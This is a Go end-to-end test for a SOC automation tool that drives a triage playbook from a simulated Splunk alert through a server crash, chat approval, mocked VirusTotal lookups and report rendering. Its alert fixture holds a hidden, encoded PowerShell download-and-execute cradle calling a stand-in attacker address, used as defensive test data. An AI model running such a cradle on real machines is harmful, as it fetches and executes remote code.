package cli

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/hunchsec/hunch/automation/chat"
	"github.com/hunchsec/hunch/automation/chat/irc"
	"github.com/hunchsec/hunch/internal/browsertest"
	"github.com/hunchsec/hunch/internal/testircd"
)

// channelLog keeps what an IRC client hears.
type channelLog struct {
	mu    sync.Mutex
	lines []string
}

func (l *channelLog) add(m chat.Message) {
	l.mu.Lock()
	l.lines = append(l.lines, m.Nick+": "+m.Text)
	l.mu.Unlock()
}

func (l *channelLog) count(sub string) int {
	l.mu.Lock()
	defer l.mu.Unlock()
	n := 0
	for _, s := range l.lines {
		if strings.Contains(s, sub) {
			n++
		}
	}
	return n
}

func (l *channelLog) wait(t *testing.T, sub string, d time.Duration) {
	t.Helper()
	deadline := time.Now().Add(d)
	for l.count(sub) == 0 {
		if time.Now().After(deadline) {
			l.mu.Lock()
			defer l.mu.Unlock()
			t.Fatalf("no message with %q within %s; heard:\n%s", sub, d, strings.Join(l.lines, "\n"))
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func encodedPowerShell(cmd string) string {
	u := utf16.Encode([]rune(cmd))
	b := make([]byte, 2*len(u))
	for i, x := range u {
		binary.LittleEndian.PutUint16(b[2*i:], x)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// TestPlaybookEndToEndSurvivesSIGKILL is the automation story in one run, against a real IRC
// server and real hunch serve processes: a Splunk alert webhook carrying an encoded PowerShell
// command opens an incident; the example triage playbook decodes it, extracts what it reaches,
// looks that up (recorded VirusTotal replies), raises the incident to critical, tells #soc and
// asks there for approval. The server is then killed with SIGKILL; a new one is started, the
// analyst approves in the channel, and the playbook records the indicators as an intel event
// with sightings and closes the incident. No action ran twice: every lookup reached the
// provider once (the cache is off), the channel heard each message once, the journal holds
// each action's entry once and verifies, and the incident report renders in headless Chromium
// without console errors.
func TestPlaybookEndToEndSurvivesSIGKILL(t *testing.T) {
	ircAddr := testircd.Start(t)
	bin, err := exec.LookPath("hunch")
	if err != nil {
		t.Fatalf("the test binary as hunch: %v", err)
	}

	// Recorded VirusTotal replies, counted per path.
	malicious, _ := os.ReadFile("../../enrich/virustotal/testdata/ip_malicious.json")
	notFound, _ := os.ReadFile("../../enrich/virustotal/testdata/domain_notfound.json")
	var vtMu sync.Mutex
	vtHits := map[string]int{}
	vt := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		vtMu.Lock()
		vtHits[r.URL.Path]++
		vtMu.Unlock()
		if r.Header.Get("x-apikey") != "vt-key" {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		if r.URL.Path == "/ip_addresses/203.0.113.9" {
			w.Write(malicious)
			return
		}
		w.WriteHeader(http.StatusNotFound)
		w.Write(notFound)
	}))
	defer vt.Close()
	dir := t.TempDir()
	keyFile := filepath.Join(dir, "vt.key")
	os.WriteFile(keyFile, []byte("vt-key\n"), 0o600)
	cfg := writeConfig(t, "enrich:\n  providers:\n    virustotal:\n      key: file:"+keyFile+"\n      base_url: "+vt.URL+"\n")
	data := filepath.Join(dir, "data")
	addr := freeAddr(t)
	base := "http://" + addr

	serve := func() (*exec.Cmd, *syncBuffer) {
		cmd := exec.Command(bin, "serve", "--config", cfg, "--data", data, "--listen", addr, "--playbooks", "../../examples/playbooks",
			"--irc-server", ircAddr, "--irc-channel", "#soc", "--irc-oper", "hunch", "--no-cache", "--playbook-poll", "200ms", "--feeds-every", "0")
		cmd.Env = append(os.Environ(), "XDG_CONFIG_HOME="+filepath.Join(dir, "cfg"), "HUNCH_IRC_OPER_PASSWORD="+testircd.OperPassword)
		var errb syncBuffer
		cmd.Stderr = &errb
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			cmd.Process.Kill()
			cmd.Wait()
			if t.Failed() {
				t.Logf("hunch serve's log:\n%s", errb.String())
			}
		})
		for i := 0; ; i++ {
			res, err := http.Get(base + "/health")
			if err == nil {
				res.Body.Close()
				if strings.Contains(errb.String(), `msg=irc`) {
					return cmd, &errb
				}
			}
			if i > 300 {
				t.Fatalf("hunch serve did not come up:\n%s", errb.String())
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
	first, firstLog := serve()
	key := apiKeyFrom(t, firstLog.String())
	api := func(method, path string, body any, out any) int {
		t.Helper()
		var rd io.Reader
		if body != nil {
			b, _ := json.Marshal(body)
			rd = bytes.NewReader(b)
		}
		req, _ := http.NewRequest(method, base+path, rd)
		req.Header.Set("Authorization", key)
		req.Header.Set("Accept", "application/json")
		req.Header.Set("Content-Type", "application/json")
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		if out != nil {
			if err := json.Unmarshal(b, out); err != nil {
				t.Fatalf("%s %s: %d %s", method, path, res.StatusCode, b)
			}
		}
		return res.StatusCode
	}

	// The analyst in #soc.
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	alice, err := irc.Dial(ctx, irc.Options{Addr: ircAddr, Nick: "alice", Channels: []string{"#soc"}})
	if err != nil {
		t.Fatal(err)
	}
	defer alice.Close()
	heard := &channelLog{}
	go alice.Run(ctx, heard.add)
	alice.Send("#soc", []string{"!help"})
	heard.wait(t, "hunch: !ip", 10*time.Second) // the bot answers: both are in the channel

	// Splunk's alert webhook, as examples/alerts/splunk_webhook.json, carrying a command that
	// downloads from 203.0.113.9 (malicious in the recorded replies).
	var payload map[string]any
	raw, _ := os.ReadFile("../../examples/alerts/splunk_webhook.json")
	json.Unmarshal(raw, &payload)
	payload["result"].(map[string]any)["CommandLine"] = "powershell.exe -NoP -W Hidden -enc " +
		encodedPowerShell("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1'); Resolve-DnsName beacon.example.net")
	body, _ := json.Marshal(payload)
	req, _ := http.NewRequest("POST", base+"/api/alerts/splunk?key="+key, bytes.NewReader(body)) // Splunk cannot set headers
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var opened struct {
		Incident struct{ ID int64 } `json:"incident"`
		Runs     []int64            `json:"runs"`
	}
	json.NewDecoder(res.Body).Decode(&opened)
	res.Body.Close()
	if res.StatusCode != http.StatusCreated || opened.Incident.ID != 1 || len(opened.Runs) != 1 {
		t.Fatalf("alert: %d %+v", res.StatusCode, opened)
	}
	run := opened.Runs[0]

	t.Cleanup(func() {
		if t.Failed() {
			var dump any
			api("GET", "/api/incidents/1", nil, &dump)
			b, _ := json.MarshalIndent(dump, "", " ")
			t.Logf("incident 1: %s", b)
			vtMu.Lock()
			t.Logf("provider requests: %v", vtHits)
			vtMu.Unlock()
		}
	})
	heard.wait(t, "is critical: malicious 203.0.113.9", 30*time.Second)
	heard.wait(t, fmt.Sprintf("answer with: !task done %d approve approve|reject", run), 10*time.Second)

	// Kill the server in the middle of the playbook: it waits for the approval.
	if err := first.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	first.Wait()
	second, secondLog := serve()

	alice.Send("#soc", []string{fmt.Sprintf("!task done %d approve approve the C2 is confirmed", run)})
	heard.wait(t, fmt.Sprintf("run %d: task approve done (approve), by alice", run), 10*time.Second)

	var inc struct {
		Severity      float64 `json:"severity"`
		Status        string  `json:"status"`
		JournalIntact bool    `json:"journal_intact"`
		Runs          []struct {
			ID     int64
			Status string
			Error  string
		} `json:"runs"`
		Journal []struct {
			Kind  string
			Actor string
			Body  map[string]any
		} `json:"journal"`
	}
	deadline := time.Now().Add(30 * time.Second)
	for {
		api("GET", "/api/incidents/1", nil, &inc)
		if inc.Status == "done" || time.Now().After(deadline) {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if inc.Status != "done" || inc.Severity != 4 || !inc.JournalIntact || len(inc.Runs) != 1 || inc.Runs[0].Status != "done" {
		t.Fatalf("incident after approval: %+v\nserver log:\n%s", inc, secondLog.String())
	}

	// No action ran twice.
	keys := map[string]int{}
	approvedBy := ""
	for _, e := range inc.Journal {
		if k, ok := e.Body["key"].(string); ok && e.Kind == "action" {
			keys[k]++
		}
		if e.Body["answered"] == "approve" {
			approvedBy = e.Actor
		}
	}
	want := []string{"decode", "keep", "extract", "lookup", "raise", "tell", "record", "close"}
	if len(keys) != len(want) {
		t.Errorf("actions journaled: %v, want %v", keys, want)
	}
	for _, task := range want {
		if n := keys[fmt.Sprintf("run-%d/%s", run, task)]; n != 1 {
			t.Errorf("action %s journaled %d times", task, n)
		}
	}
	if approvedBy != "chat:alice" {
		t.Errorf("approval journaled as %q", approvedBy)
	}
	vtMu.Lock()
	if len(vtHits) != 3 {
		t.Errorf("provider asked about %v, want the address, the URL and the domain", vtHits)
	}
	for p, n := range vtHits {
		if n != 1 {
			t.Errorf("provider asked %d times for %s", n, p)
		}
	}
	vtMu.Unlock()
	for _, msg := range []string{"is critical: malicious 203.0.113.9", "answer with: !task done"} {
		if n := heard.count(msg); n != 1 {
			t.Errorf("the channel heard %q %d times", msg, n)
		}
	}

	// The intel store has one new event with the indicators and their sightings.
	var events []struct {
		Event struct {
			ID        string
			Info      string
			Attribute []struct{ Value, Type string }
		}
	}
	api("POST", "/events/restSearch", map[string]any{"returnFormat": "json", "eventinfo": "hunch incident 1:%"}, &struct {
		Response *[]struct {
			Event struct {
				ID        string
				Info      string
				Attribute []struct{ Value, Type string }
			}
		} `json:"response"`
	}{&events})
	if len(events) != 1 || len(events[0].Event.Attribute) != 3 {
		t.Fatalf("intel events: %+v", events)
	}
	var sightings []any
	api("POST", "/sightings/restSearch/event", map[string]any{"id": events[0].Event.ID, "returnFormat": "json"}, &struct {
		Response *[]any `json:"response"`
	}{&sightings})
	if len(sightings) != 3 {
		t.Errorf("sightings of the new event: %d, want 3", len(sightings))
	}

	// The journal verifies from the CLI too, and the report renders in Chromium.
	second.Process.Signal(syscall.SIGTERM)
	second.Wait()
	code, out, errOut := runHunch(t, "", "incident", "verify", "1", "--data", data)
	if code != ExitOK || !strings.Contains(out+errOut, "intact") {
		t.Fatalf("verify: %d %s %s", code, out, errOut)
	}
	page := filepath.Join(dir, "incident-1.html")
	if code, _, errOut := runHunch(t, "", "incident", "report", "1", "--data", data, "-o", page); code != ExitOK {
		t.Fatalf("report: %s", errOut)
	}
	html, _ := os.ReadFile(page)
	for _, want := range []string{"Incident 1: Encoded PowerShell", `id="journal-status">intact`, "203.0.113.9", "malicious", "chat:alice",
		"decoded command on WKS-014", "triage-encoded-powershell", `id="intel-events"`} {
		if !bytes.Contains(html, []byte(want)) {
			t.Errorf("report lacks %q", want)
		}
	}
	chromium, driver := browsertest.Find(t)
	pdf := filepath.Join(dir, "incident-1.pdf")
	if code, out, errOut := runHunchEnv(t, map[string]string{"HUNCH_CHROMIUM": chromium}, "", "incident", "report", "1", "--data", data, "-o", pdf); code != ExitOK {
		t.Fatalf("pdf report: %s %s", out, errOut)
	}
	if b, _ := os.ReadFile(pdf); !bytes.HasPrefix(b, []byte("%PDF-")) || len(b) < 20000 {
		t.Errorf("the PDF report: %d bytes starting %q", len(b), b[:min(len(b), 8)])
	}
	d := browsertest.Start(t, chromium, driver, t.TempDir())
	d.Open("file://" + page)
	d.WaitText("h1", "Incident 1: Encoded PowerShell")
	if n := d.Count("table.run tr"); n != 11 {
		t.Errorf("the run's table has %d rows, want 10 tasks and a header", n)
	}
	d.CheckConsole("incident report")

	// The SOC summary of the day counts the incident, its time to assign (never) and resolve.
	sumPage := filepath.Join(dir, "summary.html")
	if code, _, errOut := runHunch(t, "", "incident", "summary", "--last", "1d", "--data", data, "-o", sumPage); code != ExitOK {
		t.Fatalf("summary: %s", errOut)
	}
	d.Open("file://" + sumPage)
	d.WaitText("#kpi-incidents", "1")
	if txt := d.Text("#indicators"); !strings.HasPrefix(txt, "TypeValueVerdictIncidents\nipv4203.0.113.9malicious1\n") {
		t.Errorf("summary's indicators: %q", txt)
	}
	d.CheckConsole("soc summary")
}
